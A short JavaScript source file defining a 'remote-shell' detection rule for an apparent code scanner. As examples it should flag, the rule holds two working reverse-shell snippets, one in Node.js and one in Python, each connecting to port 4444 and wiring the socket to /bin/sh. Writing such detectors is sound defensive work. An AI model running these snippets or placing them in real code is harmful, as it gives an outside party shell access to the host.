import { defineRule } from './defineRule.js';

export const remoteShell = defineRule({
  id: 'remote-shell',
  severity: 'high',
  message: 'It connects to somewhere and starts a shell.',
  why: 'That is a remote shell.',
  match: { on: 'near', all: [['starts-shell'], ['uses-network', 'bare-address']] },
  examples: {
    flags: [
      "const s = require('net').connect(4444, host); const sh = require('child_process').spawn('/bin/sh', []); s.pipe(sh.stdin);",
      {
        path: 'main.py',
        runtime: 'python',
        content:
          "import socket, subprocess, os\ns = socket.socket()\ns.connect((host, 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
      },
    ],
    passes: ["require('child_process').spawn('/bin/sh', [])"],
  },
});
